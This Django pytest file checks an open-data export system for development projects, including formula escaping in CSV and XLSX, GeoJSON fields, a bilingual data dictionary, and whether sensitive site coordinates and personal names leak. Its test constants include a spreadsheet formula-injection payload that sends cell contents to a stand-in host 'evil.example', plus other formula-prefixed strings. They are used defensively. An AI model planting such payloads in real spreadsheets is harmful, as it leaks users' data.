"""Safe open data: formula-like text typed by staff, location-sensitive projects, and the
names of people, checked in every public output; the licence and dictionary published."""

import csv
import io
import json
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from imar.monitoring.models import ProgressReport, ReportStatus
from imar.opendata.dictionary import FIELDS, TABLES
from imar.organizations.models import Contact
from imar.portfolio.models import Project
from imar.portfolio.sectors import SECTOR_CODES

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PREFIXED = [HYPERLINK, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _staff_create(client, officer, municipality, **fields):
    client.force_login(officer)
    data = {
        "code": "HOST-1",
        "title_ar": "عنوان",
        "title_en": "Title",
        "sector": "education",
        "project_type": "construction",
        "municipality": municipality.pk,
        "budget": "2500000",
        "currency": "LYD",
        "planned_start": "2026-01-01",
        "planned_end": "2027-06-30",
        "is_public": "on",
        "orgs-TOTAL_FORMS": "0",
        "orgs-INITIAL_FORMS": "0",
        **fields,
    }
    response = client.post(reverse("portfolio:project_create"), data)
    assert response.status_code == 302, response.content[:2000]
    client.logout()
    return Project.objects.get(code=data["code"])


def test_a_formula_typed_in_the_staff_form_leaves_as_text(client, officer, derna, make_project):
    _staff_create(client, officer, derna, title_en=HYPERLINK, title_ar="-1+1")
    for n, text in enumerate(PREFIXED[1:]):
        make_project(code=f"HOST-{n + 2}", title_en=text, title_ar=text)
    texts = {"HOST-1": (HYPERLINK, "-1+1")} | {
        f"HOST-{n + 2}": (t, t) for n, t in enumerate(PREFIXED[1:])
    }

    data = _body(client.get("/open-data/projects.csv")).decode("utf-8-sig")
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(data))}
    for code, (english, arabic) in texts.items():
        assert rows[code]["title_en"] == "'" + english
        assert rows[code]["title_ar"] == "'" + arabic
    assert rows["HOST-1"]["budget"] == "2500000.00"

    xlsx = _body(client.get("/open-data/projects.xlsx"))
    sheet = load_workbook(io.BytesIO(xlsx))["projects"]
    header = [cell.value for cell in sheet[1]]
    code_at, title_at, budget_at = (header.index(n) for n in ("code", "title_en", "budget"))
    seen = {}
    for row in sheet.iter_rows(min_row=2):
        seen[row[code_at].value] = row[title_at]
        assert row[budget_at].data_type == "n"
    for code, (english, _) in texts.items():
        assert seen[code].data_type == "s" and seen[code].value == english
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml")


def test_xlsx_layout_and_about_sheet(client, world):
    english = load_workbook(io.BytesIO(_body(client.get("/open-data/projects.xlsx?lang=en"))))
    sheet = english["projects"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    assert not sheet.sheet_view.rightToLeft
    header = [c.value for c in sheet[1]]
    budget = sheet.cell(row=2, column=header.index("budget") + 1)
    assert budget.data_type == "n" and budget.number_format == "#,##0.00"
    start = sheet.cell(row=2, column=header.index("planned_start") + 1)
    assert start.is_date and start.number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["B"].width  # titles
    about = [[c.value for c in row] for row in english["about"].iter_rows()]
    assert about[1][0] == "licence" and "CC BY 4.0" in about[1][2]
    described = {row[0] for row in about[4:]}
    assert described == set(header)
    arabic = load_workbook(io.BytesIO(_body(client.get("/open-data/projects.xlsx?lang=ar"))))
    assert arabic["projects"].sheet_view.rightToLeft is True
    assert [c.value for c in arabic["projects"][2]] == [c.value for c in sheet[2]]


def test_geojson_numbers_codes_and_licence(client, world, settings):
    settings.IMAR_OPEN_DATA_LICENCE = "ODbL 1.0"
    collection = json.loads(_body(client.get("/open-data/projects.geojson")))
    assert collection["licence"]["name"] == "ODbL 1.0"
    by_code = {f["properties"]["code"]: f["properties"] for f in collection["features"]}
    assert by_code["TRP-002"]["budget"] == 999.99
    assert by_code["DRN-001"]["budget"] == 2500000
    assert by_code["DRN-001"]["district_iso"] == "LY-DR"
    assert by_code["DRN-001"]["sector_dac5"] == SECTOR_CODES["housing"].dac5 == "16040"
    assert by_code["DRN-001"]["municipality_pcode"] == "LY010102"


def test_dictionary_describes_every_column_in_both_languages(client, world):
    for table in TABLES:
        assert table.columns and all(name in FIELDS for name in table.columns)
    page = client.get("/open-data/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "https://creativecommons.org/licenses/by/4.0/" in html
    assert "عنوان المشروع بالعربية" in html  # an Arabic description
    assert "Project title in Arabic." in html
    companion = _body(client.get("/open-data/dictionary.csv")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(companion)))
    columns = {(r["table"], r["column"]) for r in rows}
    for table in TABLES:
        assert {(table.name, name) for name in table.columns} <= columns
    assert all(r["description_ar"] and r["description_en"] for r in rows)
    assert "/open-data/" in client.get("/public/projects/").content.decode()


def test_public_api_index_answers_at_the_readme_address(client, world):
    response = client.get("/api/v1/public/")
    assert response.status_code == 200
    index = response.json()
    assert set(index["endpoints"]) == {
        "projects", "programs", "organizations", "agreements", "transactions", "reports"
    }  # fmt: skip
    for url in index["endpoints"].values():
        assert client.get(url).status_code == 200
    assert index["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert client.get(index["docs"]).status_code == 200
    schema = client.get("/api/v1/schema/?format=json").json()
    assert schema["tags"][0]["name"] == "public"
    assert "/open-data/" in schema["tags"][0]["description"]


# ---- location-sensitive projects and people's names: a sentinel in every public output ----

SITE = (30.4321987, 19.8765432)  # distinctive: no municipality is near these digits
SITE_DIGITS = ["30.432", "19.876", "30,432", "19,876"]
PEOPLE = ["Zubaydah Sentinelname", "Qutaybah Markername", "sentinel.person@private.test"]


def _public_outputs(client, codes) -> dict[str, str]:
    pages = {
        "map": "/public/map/points.json",
        "api-projects": "/api/v1/public/projects/",
        "api-reports": "/api/v1/public/reports/",
        "api-organizations": "/api/v1/public/organizations/",
        "api-transactions": "/api/v1/public/transactions/",
        "staff-api-anonymous": "/api/v1/projects/",
        "iati": "/open-data/projects.xml",
        "oc4ids": "/open-data/projects.json",
        "csv": "/open-data/projects.csv",
        "csv-transactions": "/open-data/projects.csv?kind=transactions",
        "geojson": "/open-data/projects.geojson",
        "home": "/",
        "list": "/public/projects/",
    }
    for code in codes:
        pages[f"page-{code}"] = f"/public/projects/{code}/"
        pages[f"api-{code}"] = f"/api/v1/public/projects/{code}/"
    out = {}
    for name, url in pages.items():
        response = client.get(url)
        if name == "staff-api-anonymous" and response.status_code in (401, 403):
            continue
        assert response.status_code == 200, (name, response.status_code)
        out[name] = _body(response).decode("utf-8-sig")
    for kind in ("projects", "transactions"):
        book = load_workbook(io.BytesIO(_body(client.get(f"/open-data/projects.xlsx?kind={kind}"))))
        out[f"xlsx-{kind}"] = " ".join(
            str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row
        )
    return out


@pytest.mark.parametrize("by", ["project", "district"])
def test_location_sensitive_sites_and_people_never_leave(
    client, officer, tripoli, settings, world, by
):
    fields = {"code": "SAFE-1", "latitude": str(SITE[0]), "longitude": str(SITE[1])}
    if by == "project":
        fields["location_sensitive"] = "on"
    else:
        settings.IMAR_LOCATION_SENSITIVE_DISTRICTS = [tripoli.district.iso_code.lower()]
    project = _staff_create(client, officer, tripoli, **fields)
    assert (project.latitude, project.longitude) == SITE
    assert project.location_sensitive is (by == "project")
    user = get_user_model().objects.create_user(
        "fieldengineer", "sentinel.person@private.test", "pass-Imar-2026",
        first_name="Qutaybah", last_name="Markername",
    )  # fmt: skip
    Contact.objects.create(
        organization=world["turkish"], name="Zubaydah Sentinelname", email="z@private.test"
    )
    ProgressReport.objects.create(
        project=project,
        report_date=date(2026, 3, 1),
        physical_percent=Decimal("10"),
        narrative_en="Works started.",
        latitude=SITE[0],
        longitude=SITE[1],
        reporter=user,
        verified_by=user,
        status=ReportStatus.VERIFIED,
        submitted_at=timezone.now(),
        verified_at=timezone.now(),
    )
    outputs = _public_outputs(client, ["SAFE-1", "DRN-001"])
    for name, text in outputs.items():
        for secret in SITE_DIGITS + PEOPLE:
            assert secret.casefold() not in text.casefold(), (name, secret)
    town = (round(tripoli.latitude, 4), round(tripoli.longitude, 4))
    assert f"{town[0]:.4f}" in outputs["page-SAFE-1"]  # the municipality's point instead
    api = json.loads(outputs["api-SAFE-1"])
    assert (api["latitude"], api["longitude"], api["location_approximate"]) == (
        tripoli.latitude, tripoli.longitude, True,
    )  # fmt: skip
    assert '<exactness code="2"/>' in outputs["iati"].split("SAFE-1")[-1]
    # Staff still see the site itself.
    client.force_login(officer)
    staff = client.get("/api/v1/projects/SAFE-1/").json()
    assert (staff["latitude"], staff["longitude"]) == SITE
    assert "30.4322" in client.get("/portfolio/projects/SAFE-1/").content.decode()
